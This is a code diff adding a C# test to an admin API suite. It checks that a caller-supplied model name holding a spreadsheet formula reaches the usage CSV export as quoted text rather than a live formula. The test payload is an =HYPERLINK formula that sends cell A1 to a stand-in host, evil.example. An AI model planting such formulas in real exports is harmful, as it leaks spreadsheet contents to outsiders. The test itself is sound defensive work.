@@ -121,6 +121,23 @@ public sealed class AdminApiTests
     }
 
     [Fact]
+    public async Task A_caller_chosen_model_name_reaches_the_csv_export_as_text_not_a_formula()
+    {
+        var secret = await _fixture.CreateKeyAsync("csv-injection");
+        const string Formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"open\")";
+        using (var response = await _fixture.Http.SendAsync(_fixture.Chat(secret, $$"""{"model":{{System.Text.Json.JsonSerializer.Serialize(Formula)}},"messages":[{"role":"user","content":"hi"}]}""")))
+        {
+            Assert.False(response.IsSuccessStatusCode);
+        }
+
+        using var csv = await AdminAsync(HttpMethod.Get, "/admin/usage.csv?key_id=csv-injection");
+        var lines = (await csv.Content.ReadAsStringAsync()).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
+        var row = Assert.Single(lines[1..]);
+        Assert.Contains(",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"open\"\")\",", row, StringComparison.Ordinal);
+        Assert.DoesNotContain(",=", row, StringComparison.Ordinal);
+    }
+
+    [Fact]
     public async Task Blocks_and_thresholds_are_recorded_as_events_once_per_window()
     {
         var secret = await _fixture.CreateKeyAsync("evented");
